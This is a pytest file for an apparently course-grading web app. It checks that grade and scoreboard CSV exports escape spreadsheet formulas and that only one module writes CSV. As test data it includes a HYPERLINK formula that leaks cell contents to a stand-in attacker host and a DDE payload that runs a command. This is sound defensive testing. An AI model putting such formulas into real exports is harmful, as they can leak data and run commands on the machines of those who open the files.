"""No CSV the service writes can start a spreadsheet formula: a student whose display name (or
e-mail) is a formula shows up in every CSV a TA downloads as text with a leading apostrophe, and
the app has one CSV writer, so a new CSV cannot forget."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from app.accounts import users
from app.core.config import Settings
from app.core.spreadsheet import csv_text, safe_cell
from app.submissions import recording
from tests.app.utils.factories import Account, judged_result, make_submission

FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"click")'
STARTS = ("=", "+", "-", "@", "\t", "\r")
APP = Path(__file__).resolve().parents[3] / "app"


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_inert(text: str) -> None:
    for cell in cells(text):
        assert not cell.startswith(STARTS) or re.fullmatch(r"-[\d.]+", cell), cell


@pytest.fixture
def formula_student(db: Session, settings: Settings, student: Account) -> Account:
    user = users.get_by_username(db, student.username)
    assert user is not None
    user.display_name, user.email = FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0"
    db.commit()
    sub = make_submission(db, student)
    recording.record_result(db, settings, sub.id, 1, judged_result(10, 0.5))
    return student


@pytest.mark.parametrize("query", ["", "?layout=canvas", "?layout=moodle"])
def test_the_grade_files_neutralise_a_formula_name(client: TestClient, formula_student: Account,
                                                   ta: Account, query: str):
    answer = client.get(f"/api/admin/grades.csv{query}", headers=ta.headers)
    assert answer.status_code == 200
    assert_inert(answer.text)
    assert any(cell in {"'" + FORMULA, "'@SUM(1+1)*cmd|' /C calc'!A0"}
               for cell in cells(answer.text))


def test_the_tas_scoreboard_csv_neutralises_a_formula_name(client: TestClient,
                                                           formula_student: Account,
                                                           ta: Account):
    answer = client.get("/api/scoreboard.csv", headers=ta.headers)
    assert answer.status_code == 200
    assert "'" + FORMULA in cells(answer.text)
    assert_inert(answer.text)


def test_every_formula_start_is_neutralised_and_numbers_stay_numbers():
    for start in STARTS:
        assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert [safe_cell(v) for v in ("-1.5", "+2", "1e-3", -3, "alice")] == \
        ["-1.5", "+2", "1e-3", -3, "alice"]
    assert cells(csv_text([["=1+1", "-0.25"]])) == ["'=1+1", "-0.25"]


def test_the_app_writes_csv_in_one_place_only():
    writers = [str(p.relative_to(APP)) for p in APP.rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\(", p.read_text())]
    assert writers == ["core/spreadsheet.py"]
